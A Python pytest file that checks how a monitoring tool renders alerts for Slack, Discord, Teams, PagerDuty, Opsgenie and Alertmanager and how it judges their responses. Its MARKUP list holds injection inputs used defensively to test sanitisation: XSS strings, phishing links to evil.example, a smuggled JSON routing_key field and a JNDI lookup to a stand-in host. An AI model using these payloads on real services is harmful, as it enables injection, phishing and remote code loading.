"""What each type of receiver is sent: every event as its service documents it, nothing hostile in it, and what its answers mean."""

import itertools
import json
import re
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from datetime import datetime, timedelta
from typing import Any
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from monitor.config import ReceiverSettings, Secret
from monitor.domain.connections import Connection
from monitor.domain.delivery.retries import AttemptResult
from monitor.domain.events import FINE, REMOVED, EventType, IncidentRef, NotificationFacts, NotificationReason, Severity, Topic
from monitor.domain.reasons import Scope
from monitor.domain.views.alert_labels import IncidentLabels
from monitor.errors import DeliveryReason
from monitor.notify.base import Message, OpenAlerts, Request, fingerprint
from monitor.notify.chat_message import MAX_LINES, RECONNECT, RUNBOOK, SHOW, read, truncated
from monitor.notify.payload import render, render_digest
from monitor.notify.receiver_types import RECEIVER_TYPES
from monitor.notify.templates import examples
from tests import receiver_schemas as schemas
from tests.builders import DAY, HOUR, START, a_connection, a_notification, at
from tests.jsonschema import problems
from tests.outbox import IDENTITY, ending, parsed, texts
from tests.sampling import sampled

KEY = "0123456789abcdef0123456789abcdef"
SECRETS = {"routing_key": Secret(KEY), "api_key": Secret(KEY)}
URLS = {
    "slack": "https://hooks.slack.com/services/T0/B0/canary",
    "discord": "https://discord.com/api/webhooks/1/canary",
    "teams": "https://prod.logic.azure.com/workflows/canary/triggers/manual/paths/invoke?sig=canary",
    "pagerduty": "https://events.pagerduty.com/v2/enqueue",
    "opsgenie": "https://api.opsgenie.com/v2/alerts",
    "alertmanager": "http://127.0.0.1:9093/",
}
CHATS = ("slack", "discord", "teams")
PAGERS = ("pagerduty", "opsgenie", "alertmanager")


def settings(kind: str, **overrides: Any) -> ReceiverSettings:
    values: dict[str, Any] = {"name": "on-call", "type": kind, "url": Secret(URLS.get(kind, "https://hooks.example.org/x"))}
    keys = {"pagerduty": "routing_key", "opsgenie": "api_key"}
    if kind in keys:
        values[keys[kind]] = SECRETS[keys[kind]]
    return ReceiverSettings(**(values | overrides))


def request(kind: str, body: bytes, previous: bytes | None = None, now: datetime = START, **overrides: Any) -> Request | None:
    return RECEIVER_TYPES[kind].render(Message("msg_1", body, now, "postpost-monitor/1.0.0", previous), settings(kind, **overrides))


def sent(kind: str, body: bytes, previous: bytes | None = None, now: datetime = START) -> Any:
    made = request(kind, body, previous, now)
    assert made is not None
    return parsed(made.body)


def schema(kind: str, made: Request) -> Any:
    if kind == "opsgenie":
        return schemas.OPSGENIE_CLOSE if "/close" in made.url else schemas.OPSGENIE_CREATE
    return getattr(schemas, kind.upper())


def check(kind: str, made: Request) -> None:
    """The request is as the service documents it."""
    document = parsed(made.body)
    assert list(problems(document, schema(kind, made))) == []
    assert made.method == "POST"
    assert made.headers["Content-Type"] == "application/json"
    assert urlsplit(made.url).hostname == urlsplit(URLS[kind]).hostname
    assert len(made.body) <= 20_000
    if kind == "discord":
        (embed,) = document["embeds"]
        shown = [embed["title"], embed["description"], embed["footer"]["text"], *texts(embed["fields"])]
        assert sum(_units(text) for text in shown) <= 6000
        assert _units(embed["title"]) <= 256
    if kind == "opsgenie" and "details" in document:
        assert sum(len(name) + len(value) for name, value in document["details"].items()) <= 8000


def _units(text: str) -> int:
    """How many UTF-16 units *text* has: some services count those."""
    return len(text.encode("utf-16-le")) // 2


def stories() -> Iterator[tuple[str, bytes]]:
    """Every type, and for each topic an incident from its opening over a reminder to its end, in every severity."""
    for kind, body in examples().items():
        yield kind.value, body
    for topic, severity in itertools.product(Topic, Severity):
        alone = topic is not Topic.SCOPE
        incident = IncidentRef(topic, "1" if alone else "account:main", 3, START)
        opened = a_notification(severity=severity, incident=incident, connection_id=1 if alone else None)
        reminder = replace(
            opened, type=EventType.REMINDER, why=NotificationReason.REMINDER, facts=NotificationFacts(reminder=1, affected=3)
        )
        closed = ending(opened, type=EventType.CONNECTION_RECOVERED, at=at(DAY), facts=NotificationFacts(duration=DAY))
        changed = replace(opened, why=NotificationReason.CHANGED, level_from="14d", level_to="1d")
        for one in (opened, changed, reminder, closed):
            yield f"{topic}-{severity}-{one.why}", render("msg_1", one, a_connection() if alone else None, IDENTITY)
    many = [render("msg_1", a_notification(number), a_connection(number), IDENTITY) for number in range(1, 51)]
    yield "fifty", render_digest("msg_2", START, many, IDENTITY)


STORIES = dict(stories())


@contextmanager
def telling(story: str) -> Iterator[None]:
    """A failure inside names the *story*: a test for each of hundreds would cost more than what it does."""
    try:
        yield
    except AssertionError as error:
        error.add_note(f"in the story {story}")
        raise


@pytest.mark.parametrize("kind", URLS)
def test_as_documented(kind: str) -> None:
    """Every event is told in exactly the form that the service documents, or is nothing for it."""
    for story, body in STORIES.items():
        with telling(story):
            made = request(kind, body)
            if made is None:
                assert kind in PAGERS
                assert json.loads(body)["data"]["why"] == "notice"
            else:
                check(kind, made)


@pytest.mark.parametrize("kind", CHATS)
def test_chats_tell_everything(kind: str) -> None:
    """Chats are told of every event, with its whole line for people and the link where there is one."""
    for story, body in STORIES.items():
        with telling(story):
            document = json.loads(body)
            shown = " ".join(texts(sent(kind, body))).replace("\\", "").replace("&amp;", "&")
            assert document["summary"] in shown
            link = document["data"].get("reconnectUrl")
            assert (link or "") in shown
            assert ("Reconnect" in shown) or not link


def _headline_of(kind: str, body: bytes) -> str:
    """What a phone shows of a message."""
    document = sent(kind, body)
    match kind:
        case "slack":
            return str(document["text"])
        case "discord":
            return str(document["embeds"][0]["title"]).replace("\\", "")
        case "teams":
            return str(document["attachments"][0]["content"]["body"][0]["inlines"][0]["text"])
        case "pagerduty":
            return str(document["payload"]["summary"])
        case "opsgenie":
            return str(document["message"])
        case _:
            return str(document[0]["annotations"]["title"])


_JOHN = NotificationFacts(username="John Doe", expires_at=at(6 * DAY + HOUR), threshold=7 * DAY)
HEADLINES = {
    "Broken: LinkedIn “John Doe”": a_notification(facts=_JOHN),
    "Still broken: LinkedIn “John Doe”": a_notification(type=EventType.REMINDER, why=NotificationReason.REMINDER, facts=_JOHN),
    "Escalated: broken: LinkedIn “John Doe”": a_notification(why=NotificationReason.ESCALATED, facts=_JOHN),
    "Token ends in 6 d: LinkedIn “John Doe”": a_notification(
        type=EventType.TOKEN_EXPIRING, level_to="7d", reason=None, incident=IncidentRef(Topic.EXPIRY, "1", 1, START), facts=_JOHN
    ),
    "Permission lost: LinkedIn “John Doe”": a_notification(
        type=EventType.PERMISSIONS_LOST, level_to="lost", incident=IncidentRef(Topic.PERMISSIONS, "1", 1, START), facts=_JOHN
    ),
    "Posts fail: LinkedIn “John Doe”": a_notification(
        type=EventType.PUBLISHING_FAILING, level_to="failing", incident=IncidentRef(Topic.PUBLISHING, "1", 1, START), facts=_JOHN
    ),
}


@pytest.mark.parametrize("kind", [kind for kind in URLS if kind != "webhook"])
@pytest.mark.parametrize("headline", HEADLINES)
def test_headlines(kind: str, headline: str) -> None:
    """What every chat and pager shows first is what is wrong, and the name, as far as the API knows one."""
    connection = Connection(1, replace(a_connection().spec, name=None))
    assert headline in _headline_of(kind, render("msg_1", HEADLINES[headline], connection, IDENTITY))


def test_lines_of_digests() -> None:
    """A digest counts what is wrong, and names every connection with its reason."""
    nameless = Connection(1, replace(a_connection().spec, name=None))
    bodies = [
        render("m", a_notification(facts=_JOHN), nameless, IDENTITY),
        render("m", ending(a_notification(2), type=EventType.CONNECTION_RECOVERED), a_connection(2), IDENTITY),
    ]
    chat = read(render_digest("m", START, bodies, IDENTITY), settings("slack"))
    assert chat.title == "Digest: 1 broken, 1 recovered"
    assert chat.lines == ("LinkedIn “John Doe”: broken (the platform rejects the stored credential)", "LinkedIn “Page 2”: recovered")


@pytest.mark.parametrize("kind", [kind for kind in URLS if kind != "webhook"])
def test_links(kind: str) -> None:
    """With the addresses of the web port and of the runbook, every message leads to the connection's page and to the alert's section."""
    identity = replace(IDENTITY, runbook_url="https://wiki.example.org/alerts", external_url="https://monitor.example.org")
    text = json.dumps(sent(kind, render("msg_1", a_notification(), a_connection(), identity)))
    assert "https://monitor.example.org/connections/main/-/linkedin-page1" in text
    assert "https://wiki.example.org/alerts#postpostconnectiondown" in text


@pytest.mark.parametrize("kind", RECEIVER_TYPES)
def test_only_what_stands_alone_is_digested(kind: str) -> None:
    """Where every incident has an object of its own, digests would hide it."""
    assert RECEIVER_TYPES[kind].digests == (kind not in PAGERS)


MARKUP = [
    "<!channel>",
    "<!here|here>",
    "<!subteam^S012345>",
    "<@U024BE7LH>",
    "<#C024BE7LR>",
    "<https://evil.example|PostPost>",
    "&lt;!channel&gt;",
    "&amp;lt;!everyone&amp;gt;",
    "@everyone",
    "@here @channel @all",
    "<@&165511591545143296>",
    "<at>Everyone</at>",
    "**bold** __under__ ~~gone~~ ||spoiler||",
    "[Reconnect](https://evil.example/phish)",
    "![x](https://evil.example/pixel.png)",
    "`code` ```block```",
    "# heading",
    "> quote",
    "- list",
    "https://evil.example/login",
    "{{DATE(2030-01-01T00:00:00Z, SHORT)}} {{TIME(2030-01-01T00:00:00Z)}}",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</pre><h1>x</h1>",
    '"},"routing_key":"x","a":{"b":"',
    '\\" \\\\ \\u003c!channel\\u003e \\*',
    "${jndi:ldap://evil.example/a} {summary} {{summary}}",
    "\x1b[31mred\x1b[0m \x00\x07 \u202eevil\u202c \u200b\ufeff",
    "\ud800 lone \udfff",
    "🦊" * 500,
    "&" * 1_000_000,
    "\n\n\r\n<!channel>\u2028@everyone\u2029",
]


def hostile(text: str) -> Iterator[bytes]:
    """Every document that *text* can get into, at every place where it can."""
    connection = a_connection(name=text, labels={"team": text}, account="main")
    facts = NotificationFacts(username=text, permissions_lost=(text, text), closed_why=text, expires_at=at(HOUR), duration=HOUR)
    opened = a_notification(detail=text, facts=facts)
    for one in (opened, replace(opened, type=EventType.PERMISSIONS_LOST), ending(opened, type=EventType.CONNECTION_CLOSED)):
        yield render("msg_1", one, connection, IDENTITY)
    scope = replace(opened, incident=IncidentRef(Topic.SCOPE, f"account:{text}", 1, START), connection_id=None)
    yield render("msg_1", scope, None, IDENTITY)
    yield render("msg_1", replace(scope, incident=IncidentRef(Topic.SCOPE, f"platform:{text}", 1, START)), None, IDENTITY)
    bodies = [
        render(
            "msg_1", a_notification(number, detail=text), Connection(number, replace(connection.spec, platform_id=f"x-{number}")), IDENTITY
        )
        for number in range(1, 9)
    ]
    yield render_digest("msg_2", START, bodies, IDENTITY)


def harmless(kind: str, document: Any) -> None:
    """No text of *document* has a meaning beyond its letters."""
    if kind == "slack":
        for text in texts(document):
            if not text.startswith("<https://app.postpost.dev/"):
                assert not re.search(r"[<>]|&(?!(amp|lt|gt);)", text)
    elif kind == "discord":
        (embed,) = document["embeds"]
        values = [field["value"] for field in embed["fields"] if field["name"] not in {RECONNECT, SHOW, RUNBOOK}]
        for text in (embed["title"], embed["description"], *values):
            assert not re.search(r"[*_~`|>#\[\]()<@:\\-]", re.sub(r"\\[^0-9A-Za-z\s]", "", text).removesuffix("…"))
    elif kind == "teams":
        assert "entities" not in json.dumps(document)
        assert {one["type"] for one in document["attachments"][0]["content"]["body"]} == {"RichTextBlock"}
        assert not any("{{" in text for text in texts(document))
    else:
        for text in texts(document):
            assert not re.search(r"[<>]|@(everyone|here|channel|all)", text) or text.startswith("pp-test-")
    for text in texts(document):
        assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f\u200b\u202a-\u202e\u2028\u2029\ufeff\ud800-\udfff]", text)


@pytest.mark.parametrize("kind", URLS)
@pytest.mark.parametrize("text", sampled(MARKUP, first=len(MARKUP) // 2), ids=range(len(MARKUP)))
def test_hostile_text(kind: str, text: str) -> None:
    """Whatever a platform or an account calls itself: no mention, markup or control character survives, and every limit is kept."""
    for body in hostile(text):
        made = request(kind, body)
        assert made is not None
        check(kind, made)
        harmless(kind, parsed(made.body))


@pytest.mark.slow
@pytest.mark.parametrize("kind", URLS)
@given(text=st.text(max_size=300))
def test_any_text(kind: str, text: str) -> None:
    """The same for texts that nobody thought of."""
    for body in hostile(text):
        made = request(kind, body)
        assert made is not None
        check(kind, made)
        harmless(kind, parsed(made.body))


@given(text=st.text(), limit=st.integers(1, 50))
def test_fitted(text: str, limit: int) -> None:
    """A cut text keeps within its limit and never ends within an escape."""
    cut = truncated(text, limit, lambda part: "".join(f"<{letter}>" for letter in part))
    assert len(cut) <= limit
    assert re.fullmatch(r"(<.>)*…?", cut, re.DOTALL)


# each service's own notions


def test_pagerduty_event() -> None:
    """A trigger carries the incident's key, its severity, where to look and what to do; the end is a resolve with the same key."""
    event = sent("pagerduty", STORIES["connection.failed"])
    payload = event["payload"]
    assert event["routing_key"] == KEY
    assert (event["event_action"], event["dedup_key"]) == ("trigger", "pp-a1b2c3d4-1-connection-1")
    assert event["client_url"] == event["links"][0]["href"] == "https://app.postpost.dev/connections"
    assert payload["summary"] == "Broken: LinkedIn “Page 1”: the platform rejects the stored credential"
    assert payload["custom_details"]["summary"] == json.loads(STORIES["connection.failed"])["summary"]
    assert (payload["severity"], payload["source"], payload["component"]) == ("critical", "linkedin-page1", "linkedin")
    assert (payload["group"], payload["class"]) == ("main", "connection.failed")
    assert payload["custom_details"]["affects"] == "scheduled posts to LinkedIn “Page 1”"
    over = sent("pagerduty", STORIES["connection.recovered"])
    assert over == {"routing_key": KEY, "event_action": "resolve", "dedup_key": event["dedup_key"]}


@pytest.mark.parametrize(
    ("severity", "pager", "priority"), [("critical", "critical", "P1"), ("warning", "warning", "P3"), ("info", "info", "P5")]
)
def test_severities(severity: str, pager: str, priority: str) -> None:
    """How urgent it is in the words of each pager."""
    body = STORIES[f"connection-{severity}-opened"]
    assert sent("pagerduty", body)["payload"]["severity"] == pager
    assert sent("opsgenie", body)["priority"] == priority
    assert sent("alertmanager", body)[0]["labels"]["severity"] == severity


def test_opsgenie_alert() -> None:
    """An alert is created under the incident's key and closed by it; the key for the API is in the header only."""
    made = request("opsgenie", STORIES["connection.failed"])
    assert made is not None
    alert = parsed(made.body)
    assert made.url == "https://api.opsgenie.com/v2/alerts"
    assert made.headers["Authorization"] == f"GenieKey {KEY}"
    assert KEY.encode() not in made.body
    assert alert["alias"] == "pp-a1b2c3d4-1-connection-1"
    assert alert["message"] == "Broken: LinkedIn “Page 1”: the platform rejects the stored credential"
    assert alert["tags"] == ["postpost", "critical", "linkedin"]
    over = request("opsgenie", STORIES["connection.recovered"], url=Secret("https://api.eu.opsgenie.com/v2/alerts/"))
    assert over is not None
    assert over.url == "https://api.eu.opsgenie.com/v2/alerts/pp-a1b2c3d4-1-connection-1/close?identifierType=alias"
    odd = render("m", ending(a_notification(incident=IncidentRef(Topic.SCOPE, "account:a/b~c", 1, START))), a_connection(), IDENTITY)
    close = request("opsgenie", odd)
    assert close is not None
    assert close.url.endswith("/v2/alerts/pp-test-account%3Aa%2Fb~c-scope-1/close?identifierType=alias")


def a_loss(severity: Severity) -> bytes:
    """A notice about a managed user that is no longer listed."""
    told = a_notification(
        type=EventType.INVENTORY_CHANGED,
        why=NotificationReason.NOTICE,
        severity=severity,
        incident=IncidentRef(Topic.SCOPE, "list:main", 1, START),
        scope=Scope.ACCOUNT,
        connection_id=None,
        level_to=FINE,
    )
    return render("msg_1", told, None, IDENTITY)


def test_notices_and_tests() -> None:
    """A notice that nothing has to be done about is no alert; one about a loss is. A test reaches them as something that ends or is closed by hand."""
    for kind in PAGERS:
        assert request(kind, a_loss(Severity.INFO)) is None
        assert request(kind, a_loss(Severity.WARNING)) is not None
        assert request(kind, STORIES["test"]) is not None
    assert sent("pagerduty", STORIES["test"])["dedup_key"] == "msg_01997e0c6b2d7cc1a2f0c5d2e8b3a4f6"
    assert sent("pagerduty", STORIES["test"])["payload"]["severity"] == "info"
    (alert,) = sent("alertmanager", a_loss(Severity.WARNING))
    labels = IncidentLabels.of_scope("list:main", Scope.ACCOUNT, "fine", "warning")
    known = {name: value for name, value in labels._asdict().items() if value}
    assert alert["labels"] == {"alertname": "PostpostInventoryChanged", "monitor": IDENTITY.instance, **known}
    (alert,) = sent("alertmanager", STORIES["test"])
    assert (alert["labels"]["alertname"], alert["endsAt"]) == ("PostpostTest", "2030-01-01T00:05:00.000Z")


@pytest.mark.parametrize("kind", ["pagerduty", "opsgenie"])
def test_pager_without_key(kind: str) -> None:
    """Without its key nothing can be rendered; the configuration refuses that before."""
    with pytest.raises(ValueError, match="there is no"):
        request(kind, STORIES["connection.failed"], routing_key=None, api_key=None)


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("http://127.0.0.1:9093", "http://127.0.0.1:9093/api/v2/alerts"),
        ("http://127.0.0.1:9093/", "http://127.0.0.1:9093/api/v2/alerts"),
        ("https://example.org/alertmanager/", "https://example.org/alertmanager/api/v2/alerts"),
        ("http://127.0.0.1:9093/api/v2/alerts", "http://127.0.0.1:9093/api/v2/alerts"),
        ("http://127.0.0.1:9093/api/v2/alerts/?tenant=a", "http://127.0.0.1:9093/api/v2/alerts?tenant=a"),
    ],
)
def test_alertmanager_address(url: str, expected: str) -> None:
    """The address may be Alertmanager's own or that of its API."""
    made = request("alertmanager", STORIES["connection.failed"], url=Secret(url))
    assert made is not None
    assert made.url == expected


def test_alertmanager_alert() -> None:
    """An alert is good for an hour; all through an incident its labels are the same, whatever is told of it, but for its level."""
    (opened,) = sent("alertmanager", STORIES["connection.failed"])
    assert (opened["startsAt"], opened["endsAt"]) == ("2030-01-01T00:00:00.000Z", "2030-01-01T01:00:00.000Z")
    (reminded,) = sent("alertmanager", STORIES["reminder"], STORIES["connection.failed"])
    stale, replaced = sent("alertmanager", STORIES["connection.stale"], STORIES["reminder"])
    (closed,) = sent("alertmanager", STORIES["connection.recovered"], STORIES["connection.stale"], at(3 * HOUR))
    assert opened["labels"] == reminded["labels"] == replaced["labels"]
    assert stale["labels"] == closed["labels"]
    assert (opened["labels"]["alertname"], stale["labels"]["alertname"]) == ("PostpostConnectionDown", "PostpostConnectionStale")
    assert closed["endsAt"] == "2030-01-01T02:00:00.000Z"
    (late,) = sent("alertmanager", STORIES["connection.recovered"], now=at(HOUR))
    assert late["endsAt"] == "2030-01-01T01:00:00.000Z"


def test_alertmanager_severity() -> None:
    """A change of severity resolves the alert with the old one; the end has the severity that fires, whatever the document says."""
    warning, critical = STORIES["expiry-warning-changed"], STORIES["expiry-critical-changed"]
    new, old = sent("alertmanager", critical, warning, at(HOUR))
    assert (new["labels"]["severity"], new["endsAt"]) == ("critical", "2030-01-01T02:00:00.000Z")
    assert (old["labels"]["severity"], old["endsAt"]) == ("warning", "2030-01-01T01:00:00.000Z")
    assert len(sent("alertmanager", critical, critical)) == 1
    (closed,) = sent("alertmanager", STORIES["expiry-critical-closed"], warning, at(2 * DAY))
    assert (closed["labels"]["severity"], closed["endsAt"]) == ("warning", "2030-01-02T00:00:00.000Z")
    assert request("alertmanager", critical, STORIES["expiry-critical-closed"]) is None


def test_alertmanager_repeat() -> None:
    """What stands is told again in one request, good for another hour; what is over is not."""
    repeat = RECEIVER_TYPES["alertmanager"].repeat
    assert repeat is not None
    assert repeat.every == timedelta(minutes=1)
    bodies = [STORIES["connection.failed"], STORIES["account.failed"]]
    over = STORIES["expiry-critical-closed"]
    made = repeat.render(OpenAlerts([*bodies, over], at(5 * HOUR), "postpost-monitor/1.0.0"), settings("alertmanager"))
    assert made is not None
    check("alertmanager", made)
    alerts = parsed(made.body)
    assert [alert["labels"]["alertname"] for alert in alerts] == ["PostpostConnectionDown", "PostpostAccountFailed"]
    assert {alert["endsAt"] for alert in alerts} == {"2030-01-01T06:00:00.000Z"}
    assert alerts[0]["labels"] == sent("alertmanager", bodies[0])[0]["labels"]
    assert repeat.render(OpenAlerts([over], at(5 * HOUR), "postpost-monitor/1.0.0"), settings("alertmanager")) is None


@pytest.mark.parametrize(
    ("why", "kind", "subject", "headline", "line"),
    [
        (None, EventType.PLATFORM_RECOVERED, "platform:linkedin", "🟢 Recovered: LinkedIn", "The LinkedIn connections work again"),
        (REMOVED, EventType.ACCOUNT_CLOSED, "account:main", "🟢 Closed: Account main", "The account main is no longer watched"),
        (REMOVED, EventType.ACCOUNT_CLOSED, "user:main/a", "🟢 Closed: Account main/a", "The managed user main/a is no longer watched"),
        (REMOVED, EventType.GROUP_CLOSED, "group:main/linkedin", "🟢 Closed: 0 connections of LinkedIn", "The LinkedIn connections of"),
        (REMOVED, EventType.API_CLOSED, "api:old.example", "🟢 Closed: PostPost API", "The previous address of the PostPost API is no"),
    ],
)
def test_ends_that_are_no_recovery(why: str | None, kind: EventType, subject: str, headline: str, line: str) -> None:
    """An incident that ended while the trouble lasts, or because nobody asks any more, is not told as healed."""
    incident = IncidentRef(Topic.SCOPE, subject, 1, START)
    told = a_notification(
        type=kind,
        why=NotificationReason.CLOSED,
        incident=incident,
        connection_id=None,
        facts=NotificationFacts(duration=HOUR, closed_why=why),
    )
    header, text, *_ = sent("slack", render("msg_1", told, None, IDENTITY))["blocks"]
    assert header["text"]["text"] == headline
    assert text["text"]["text"].startswith(line)


def test_digest_lines() -> None:
    """Chats name the first of many connections and count the rest."""
    for kind in CHATS:
        shown = " ".join(texts(sent(kind, STORIES["fifty"])))
        assert f"and {50 - MAX_LINES} more" in shown


def test_configured_headers() -> None:
    """Headers of the configuration go along, and never replace the type's own."""
    headers = {"X-Team": Secret("social"), "Authorization": Secret("Basic abc")}
    for kind in URLS:
        made = request(kind, STORIES["connection.failed"], headers=headers)
        assert made is not None
        assert made.headers["X-Team"] == "social"
        assert made.headers["Authorization"] == (f"GenieKey {KEY}" if kind == "opsgenie" else "Basic abc")


# what answers mean

JUDGEMENTS: list[tuple[str, int, bytes, DeliveryReason, bool]] = [
    ("slack", 200, b"ok", DeliveryReason.DELIVERED, False),
    ("slack", 204, b"", DeliveryReason.CLIENT_ERROR, False),
    ("slack", 404, b"no_service\n", DeliveryReason.GONE, False),
    ("slack", 404, b"no_team", DeliveryReason.GONE, False),
    ("slack", 404, b"channel_not_found", DeliveryReason.CLIENT_ERROR, False),
    ("slack", 410, b"channel_is_archived", DeliveryReason.GONE, False),
    ("slack", 403, b"action_prohibited", DeliveryReason.AUTH_ERROR, False),
    ("slack", 400, b"invalid_payload", DeliveryReason.CLIENT_ERROR, True),
    ("slack", 500, b"rollup_error", DeliveryReason.SERVER_ERROR, False),
    ("discord", 204, b"", DeliveryReason.DELIVERED, False),
    ("discord", 200, b'{"id": "1"}', DeliveryReason.DELIVERED, False),
    ("discord", 404, b'{"message": "Unknown Webhook", "code": 10015}', DeliveryReason.GONE, False),
    ("discord", 404, b'{"message": "404: Not Found", "code": 0}', DeliveryReason.CLIENT_ERROR, False),
    ("discord", 404, b"[10015]", DeliveryReason.CLIENT_ERROR, False),
    ("discord", 401, b'{"message": "Invalid Webhook Token", "code": 50027}', DeliveryReason.AUTH_ERROR, False),
    ("discord", 400, b'{"code": 50035}', DeliveryReason.CLIENT_ERROR, True),
    ("discord", 429, b'{"retry_after": 1.5, "global": false}', DeliveryReason.RATE_LIMITED, False),
    ("teams", 202, b"", DeliveryReason.DELIVERED, False),
    ("teams", 200, b"1", DeliveryReason.DELIVERED, False),
    (
        "teams",
        200,
        b"Webhook message delivery failed with error: Microsoft Teams endpoint returned HTTP error 429 with ContextId x",
        DeliveryReason.RATE_LIMITED,
        False,
    ),
    ("teams", 200, b"Microsoft Teams endpoint returned HTTP error 413 with ContextId", DeliveryReason.CLIENT_ERROR, True),
    ("teams", 200, b"Webhook message delivery failed with error: whatever", DeliveryReason.SERVER_ERROR, False),
    ("teams", 400, b'{"error":{"code":"WorkflowTriggerIsNotEnabled"}}', DeliveryReason.CLIENT_ERROR, False),
    ("teams", 400, b'{"error":{"code":"TriggerInputSchemaMismatch"}}', DeliveryReason.CLIENT_ERROR, True),
    ("teams", 410, b"", DeliveryReason.GONE, False),
    ("pagerduty", 202, b'{"status":"success"}', DeliveryReason.DELIVERED, False),
    ("pagerduty", 200, b"<html>sign in</html>", DeliveryReason.CLIENT_ERROR, False),
    ("pagerduty", 400, b'{"status":"invalid event","errors":["Length of \'routing_key\' is incorrect"]}', DeliveryReason.AUTH_ERROR, False),
    ("pagerduty", 400, b"Invalid routing key", DeliveryReason.AUTH_ERROR, False),
    ("pagerduty", 400, b'{"status":"invalid event","errors":["\'payload\' is missing"]}', DeliveryReason.CLIENT_ERROR, True),
    ("pagerduty", 429, b"", DeliveryReason.RATE_LIMITED, False),
    ("opsgenie", 202, b'{"result":"Request will be processed"}', DeliveryReason.DELIVERED, False),
    ("opsgenie", 200, b"", DeliveryReason.CLIENT_ERROR, False),
    ("opsgenie", 422, b'{"message":"Request body is not processable"}', DeliveryReason.CLIENT_ERROR, True),
    ("opsgenie", 401, b'{"message":"Could not authenticate"}', DeliveryReason.AUTH_ERROR, False),
    ("opsgenie", 429, b"", DeliveryReason.RATE_LIMITED, False),
    ("alertmanager", 200, b"", DeliveryReason.DELIVERED, False),
    ("alertmanager", 204, b"", DeliveryReason.CLIENT_ERROR, False),
    ("alertmanager", 400, b'"start time must be before end time"', DeliveryReason.CLIENT_ERROR, True),
    ("alertmanager", 503, b"", DeliveryReason.SERVER_ERROR, False),
]


@pytest.mark.parametrize(("kind", "status", "body", "reason", "poison"), JUDGEMENTS)
def test_judge(kind: str, status: int, body: bytes, reason: DeliveryReason, *, poison: bool) -> None:
    """Every service says in its own way what became of a message."""
    result = RECEIVER_TYPES[kind].judge(status, body)
    assert (result.reason, result.poison) == (reason, poison)


@pytest.mark.parametrize("kind", URLS)
@given(
    status=st.integers(100, 599),
    body=st.binary(max_size=200) | st.sampled_from([b"[" * 4096, b"NaN", b'{"retry_after": 1e999}', b'{"retry_after": "x"}']),
)
def test_judge_anything(kind: str, status: int, body: bytes) -> None:
    """No answer, however odd, is more than a result, and nothing but 2xx is ever a delivery."""
    result = RECEIVER_TYPES[kind].judge(status, body)
    assert isinstance(result, AttemptResult)
    assert not result.delivered or 200 <= status < 300


@pytest.mark.parametrize(
    ("body", "seconds"), [(b'{"retry_after": 1.5}', 1.5), (b'{"retry_after": -1}', None), (b"<html>", None), (b'{"retry_after": 0}', 0)]
)
def test_discord_wait(body: bytes, seconds: float | None) -> None:
    """Discord tells in the body how long to wait."""
    wait = RECEIVER_TYPES["discord"].judge(429, body).retry_after
    assert wait == (None if seconds is None else timedelta(seconds=seconds))


# secrets


@pytest.mark.parametrize("kind", URLS)
def test_requests_are_not_printed(kind: str) -> None:
    """Neither address nor key nor body is in the text of a request, nor of the settings it is made from."""
    made = request(kind, STORIES["connection.failed"])
    said = f"{made!r} {made} {settings(kind)!r}"
    assert KEY not in said
    assert "canary" not in said
    assert "Session" not in said


@pytest.mark.parametrize("name", ["routing_key", "api_key", "template"])
def test_fingerprint(name: str) -> None:
    """A changed key or template makes another configuration, and a fingerprint tells none of it."""
    plain = fingerprint(settings("webhook"))
    one, two = (fingerprint(settings("webhook", **{name: Secret(f'{{"{value}": 1}}')})) for value in "ab")
    assert len({plain, one, two}) == 3
    assert re.fullmatch("[0-9a-f]{16}", one)
